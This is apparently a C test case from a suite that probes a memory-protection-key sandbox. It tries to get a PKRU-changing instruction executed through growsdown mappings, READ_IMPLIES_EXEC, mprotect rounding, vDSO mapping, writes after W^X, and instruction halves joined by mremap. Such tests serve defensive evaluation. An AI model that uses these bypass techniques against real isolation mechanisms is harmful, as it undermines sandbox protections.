/* SPDX-License-Identifier: MIT */
/*
 * Memory that becomes executable by a call without PROT_EXEC, or more of it
 * than the call says: growing down, rounding, READ_IMPLIES_EXEC, shmat,
 * ARCH_MAP_VDSO, a write after W^X, two halves brought together by mremap (a04).
 */
/* Isolation: keys */
/* Blocked: 0 */
/* Control: 42 */
#include "attack.h"

#include <asm/prctl.h>
#include <sys/personality.h>
#include <sys/shm.h>

static void run(const void *p, const char *how)
{
	(void)run_code(p, 0, 0);
	if (rdpkru() != env.pkru || can_read(env.secret))
		succeeded("%s: PKRU is %#x", how, rdpkru());
}

static uint8_t *code_at(size_t count, size_t off)
{
	uint8_t *p = pages(count);

	memset(p, 0xc3, count * PAGE);
	memcpy(p + off, open_pkru, sizeof(open_pkru));
	return p;
}

static void grows_down(void)
{
	uint8_t *p = mmap(NULL, 4 * PAGE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0);

	if (p == MAP_FAILED)
		return;
	memset(p, 0xc3, 4 * PAGE);
	memcpy(p, open_pkru, sizeof(open_pkru));
	if (raw(SYS_mprotect, p + 3 * PAGE, PAGE, PROT_READ | PROT_EXEC | PROT_GROWSDOWN) == 0)
		run(p, "PROT_GROWSDOWN");
	p = mmap(NULL, 4 * PAGE, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0);
	if (p == MAP_FAILED)
		return;
	memcpy(p, open_pkru, sizeof(open_pkru));
	run(p, "MAP_GROWSDOWN with all rights");
}

static void implied(void)
{
	uint8_t *p;
	int id;

	(void)raw(SYS_personality, READ_IMPLIES_EXEC);
	(void)raw(SYS_personality, READ_IMPLIES_EXEC | 1l << 32);
	p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p != MAP_FAILED) {
		memcpy(p, open_pkru, sizeof(open_pkru));
		run(p, "READ_IMPLIES_EXEC");
	}
	id = shmget(IPC_PRIVATE, PAGE, 0700);
	p = shmat(id, NULL, 0);
	shmctl(id, IPC_RMID, NULL);
	if (p != (void *)-1) {
		memcpy(p, open_pkru, sizeof(open_pkru));
		run(p, "shmat with READ_IMPLIES_EXEC");
	}
	(void)raw(SYS_personality, 0);
}

/* Two halves, each harmless, moved next to each other. */
static void joined(void)
{
	uint8_t *area = mmap(NULL, 8 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	for (size_t k = 7; k <= 8; k++) { /* 0F | 01 EF and 0F 01 | EF */
		uint8_t *a = pages(1), *b = pages(1), *at = area + 2 * PAGE;

		memset(a, 0x90, PAGE);
		memset(b, 0xc3, PAGE);
		memcpy(a + PAGE - k, open_pkru, k);
		memcpy(b, open_pkru + k, sizeof(open_pkru) - k);
		if (make_executable(a, PAGE) || make_executable(b, PAGE))
			continue;
		if (raw(SYS_mremap, a, PAGE, PAGE, 3, at) == (long)at &&
		    raw(SYS_mremap, b, PAGE, PAGE, 3, at + PAGE) == (long)(at + PAGE))
			run(at + PAGE - k, "joined by mremap");
		/* Made where they are to be, with a guard in between that goes away. */
		a = pages(3);
		memcpy(a + PAGE - k, open_pkru, k);
		if (make_executable(a, PAGE))
			continue;
		memcpy(a + PAGE, open_pkru + k, sizeof(open_pkru) - k);
		(void)raw(SYS_mprotect, a, PAGE, PROT_NONE);
		if (make_executable(a + PAGE, PAGE) == 0) {
			(void)make_executable(a, PAGE);
			run(a + PAGE - k, "hidden behind PROT_NONE");
		}
		munmap(area, 8 * PAGE);
		area = mmap(NULL, 8 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	}
}

static void rounded(void)
{
	uint8_t *p = code_at(2, PAGE - 16);

	if (raw(SYS_mprotect, p, 1, PROT_READ | PROT_EXEC) == 0)
		run(p + PAGE - 16, "length 1");
	p = code_at(2, 0);
	if (raw(SYS_mprotect, p, PAGE, PROT_READ | PROT_EXEC | 5l << 32) == 0)
		run(p, "junk above the protection");
	p = code_at(1, 0);
	if (raw(SYS_mprotect, p, PAGE, PROT_EXEC) == 0)
		run(p, "execute-only");
	p = code_at(4, 2 * PAGE);
	munmap(p + 3 * PAGE, PAGE); /* fails half way */
	(void)raw(SYS_mprotect, p, 4 * PAGE, PROT_READ | PROT_EXEC);
	run(p + 2 * PAGE, "a call that failed half way");
}

static void write_after(void)
{
	uint8_t *p = mmap(NULL, PAGE, 7, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return;
	for (int i = 0; i < 3; i++) {
		memset(p, 0xc3, 64);
		run(p, "harmless");
		memcpy(p, open_pkru, sizeof(open_pkru));
		run(p, "written between two runs");
	}
}

void attack(void)
{
	grows_down();
	rounded();
	joined();
	write_after();
	for (long op = 0x2001; op <= 0x2003; op++) /* ARCH_MAP_VDSO_* */
		if (raw(SYS_arch_prctl, op, 0x10000000) > 0 && !env.control)
			succeeded("ARCH_MAP_VDSO %#lx", op);
	implied();
}
